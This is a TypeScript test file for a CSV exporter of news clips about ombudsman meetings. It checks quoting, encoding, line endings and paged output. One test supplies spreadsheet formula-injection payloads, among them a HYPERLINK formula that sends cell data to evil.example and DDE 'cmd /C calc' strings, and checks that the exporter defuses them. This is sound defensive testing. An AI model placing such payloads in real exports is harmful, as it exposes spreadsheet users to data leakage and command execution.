import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, clipsToCsv, clipsToCsvParts } from '../../lib/export/csv.ts';
import type { Clip } from '../../lib/types.ts';
import { makeClip } from './factories.ts';

const BOM = '\uFEFF';
const HEADERS = CSV_COLUMNS.map((c) => c.header);

/** The CSV as rows of strings (RFC 4180, as Papa Parse reads it), the BOM checked and removed. */
function rows(csv: string): string[][] {
  expect(csv.startsWith(BOM)).toBe(true);
  const parsed = Papa.parse<string[]>(csv.slice(BOM.length), { delimiter: ',', newline: '\r\n', skipEmptyLines: false });
  expect(parsed.errors).toEqual([]);
  const data = parsed.data;
  // The file ends with a line break, which Papa Parse reads as one empty last row.
  expect(data.at(-1)).toEqual(['']);
  return data.slice(0, -1);
}

/** One clip's row as header -> cell. */
function record(clip: Clip): Record<string, string> {
  const [header, row, ...rest] = rows(clipsToCsv([clip]));
  expect(rest).toEqual([]);
  expect(header).toEqual(HEADERS);
  expect(row).toHaveLength(HEADERS.length);
  return Object.fromEntries(HEADERS.map((h, i) => [h, row![i]!]));
}

describe('clipsToCsv', () => {
  it('starts with one UTF-8 byte order mark', () => {
    const csv = clipsToCsv([makeClip()]);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.charCodeAt(1)).not.toBe(0xfeff);
    expect(csv.slice(1).startsWith(HEADERS[0]!)).toBe(true);
    // U+FEFF is written as EF BB BF once encoded.
    expect([...new TextEncoder().encode(csv).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('writes the header row in CSV_COLUMNS order', () => {
    const [header] = rows(clipsToCsv([makeClip()]));
    expect(header).toEqual(HEADERS);
    expect(new Set(HEADERS).size).toBe(HEADERS.length);
    expect(HEADERS).toEqual(expect.arrayContaining(['title', 'url', 'published_at', 'event_type', 'event_date', 'participant_countries', 'actors', 'tags', 'note']));
  });

  it('with no clips gives only the header', () => {
    const csv = clipsToCsv([]);
    expect(csv).toBe(`${BOM}${HEADERS.join(',')}\r\n`);
  });

  it('puts each column under its header', () => {
    const clip = makeClip({
      url: 'https://news.example/a?utm_source=x',
      canonicalUrl: 'https://news.example/a',
      outlet: null,
      author: null,
      eventDate: null,
      location: { city: 'Baku', countryCode: 'AZ' },
      relevance: { isRelevant: false, score: 0.23, reasons: ['no ombudsman named'] },
      note: 'check the date',
      clippedAt: '2024-05-02T08:30:00.000Z',
    });
    const r = record(clip);
    expect(r.clipped_at).toBe('2024-05-02T08:30:00.000Z');
    expect(r.title).toBe(clip.title);
    expect(r.url).toBe('https://news.example/a');
    expect(r.outlet).toBe('');
    expect(r.author).toBe('');
    expect(r.published_at).toBe('2022-11-30');
    expect(r.event_date).toBe('');
    expect(r.relevant).toBe('false');
    expect(r.relevance_score).toBe('0.23');
    expect(r.event_type).toBe('videoconference');
    expect(r.location_city).toBe('Baku');
    expect(r.location_country).toBe('AZ');
    expect(r.note).toBe('check the date');
    expect(r.text).toBe(clip.text);
  });

  it('joins multi-valued fields with "; "', () => {
    const r = record(makeClip({ tags: ['OIC', 'landmines'], participantCountries: ['AZ', 'UA'], mentionedCountries: ['AZ', 'UA', 'AM'] }));
    expect(r.participant_countries).toBe('AZ; UA');
    expect(r.mentioned_countries).toBe('AZ; UA; AM');
    expect(r.tags).toBe('OIC; landmines');
    expect(r.topics).toBe('refugees_displacement; peace_security');
    expect(r.relevance_reasons).toBe('headline names the institution: "ombudspersons"');
    expect(r.actors!.split('; ')).toEqual([
      'Sabina Aliyeva (Human Rights Commissioner, Commissioner for Human Rights (Ombudsman) of the Republic of Azerbaijan, AZ)',
      'Dmytro Lubinets (Parliament Commissioner for Human Rights, UA)',
    ]);
    expect(r.institutions!.split('; ')).toEqual([
      'Commissioner for Human Rights (Ombudsman) of the Republic of Azerbaijan',
      'Office of the UN High Commissioner for Human Rights (OHCHR)',
    ]);
    expect(r.agreements).toBe('memorandum of understanding: Ombudsman of Azerbaijan: Ombudsman of Ukraine');
  });

  it('empty lists give empty cells', () => {
    const r = record(makeClip({ tags: [], actors: [], agreements: [], participantCountries: [] }));
    expect(r.tags).toBe('');
    expect(r.actors).toBe('');
    expect(r.agreements).toBe('');
    expect(r.participant_countries).toBe('');
  });

  it('quotes commas, double quotes, line breaks and keeps non-ASCII letters (RFC 4180 round trip)', () => {
    const clip = makeClip({
      title: 'Azerbaijani, Morocco & OIC Ombudspersons ink "MoU" on joint co-op',
      outlet: 'Azərbaycan Respublikasının İnsan Hüquqları üzrə Müvəkkili (Ombudsman)',
      author: 'Şəhla Məmmədova',
      summary: 'Уполномоченный по правам человека, Татьяна Москалькова, встретилась с коллегой.',
      note: 'first line\nsecond line, with "quotes"\r\nthird line',
      text: 'Paragraph one, about the "Ombudsman".\n\nParagraph two: Kamu Denetçiliği Kurumu, Şanlıurfa.',
      tags: ['ə-tag', 'Ş, with comma'],
    });
    const csv = clipsToCsv([clip]);
    // Quoted, with inner quotes doubled.
    expect(csv).toContain('"Azerbaijani, Morocco & OIC Ombudspersons ink ""MoU"" on joint co-op"');
    const r = record(clip);
    expect(r.title).toBe(clip.title);
    expect(r.outlet).toBe(clip.outlet);
    expect(r.author).toBe('Şəhla Məmmədova');
    expect(r.summary).toBe(clip.summary);
    expect(r.note).toBe(clip.note);
    expect(r.text).toBe(clip.text);
    expect(r.tags).toBe('ə-tag; Ş, with comma');
  });

  it('ends every record with CRLF', () => {
    const csv = clipsToCsv([makeClip(), makeClip(), makeClip()]);
    expect(csv.endsWith('\r\n')).toBe(true);
    // No line break in these clips' cells, so every break is a record end and every one is CRLF.
    const breaks = csv.match(/\r\n|\r|\n/g) ?? [];
    expect(breaks).toHaveLength(4);
    expect(breaks.every((b) => b === '\r\n')).toBe(true);
  });

  it('writes one row per clip, in the order given', () => {
    const clips = ['First', 'Second', 'Third'].map((title) => makeClip({ title }));
    const [, ...data] = rows(clipsToCsv(clips));
    expect(data.map((row) => row[HEADERS.indexOf('title')])).toEqual(['First', 'Second', 'Third']);
  });

  it.each([
    ['=', '=HYPERLINK("http://evil.example/?q="&A1,"Click")'],
    ['+', '+cmd|" /C calc"!A0'],
    ['-', '-2+3+cmd|" /C calc"!A0'],
    ['@', '@SUM(1+1)*cmd|" /C calc"!A0'],
    ['tab', '\t=1+1'],
    ['CR', '\r=1+1'],
    ['= over several lines', '=HYPERLINK("http://evil.example","open")\nsecond line'],
    ['@ over several lines', '@SUM(1+1)\r\nmore text'],
  ])('neutralises a cell starting with %s', (_name, value) => {
    const clip = makeClip({ title: value, outlet: value, author: value, summary: value, note: value, tags: [value] });
    const r = record(clip);
    for (const header of ['title', 'outlet', 'author', 'summary', 'note', 'tags']) {
      const cell = r[header]!;
      expect(cell, header).not.toMatch(/^[=+\-@\t\r]/);
      // Defused, not dropped: the text is still there.
      expect(cell.endsWith(value), header).toBe(true);
    }
  });

  it('leaves ordinary cells as they are', () => {
    const r = record(makeClip({ title: 'Ombudsman meets counterpart', note: 'a-b = c' }));
    expect(r.title).toBe('Ombudsman meets counterpart');
    expect(r.note).toBe('a-b = c');
  });
});

describe('clipsToCsvParts', () => {
  async function* pagesOf(...pages: Clip[][]): AsyncGenerator<Clip[]> {
    yield* pages;
  }

  it('gives, page by page, the same text as clipsToCsv of all the clips', async () => {
    const clips = ['=First', 'Second, with "quotes"', 'Третий', 'Fourth\r\nline'].map((title) => makeClip({ title }));
    const parts = await clipsToCsvParts(pagesOf(clips.slice(0, 3), [], clips.slice(3)));
    expect(parts.join('')).toBe(clipsToCsv(clips));
  });

  it('with no clips gives only the header', async () => {
    expect((await clipsToCsvParts(pagesOf())).join('')).toBe(clipsToCsv([]));
  });
});
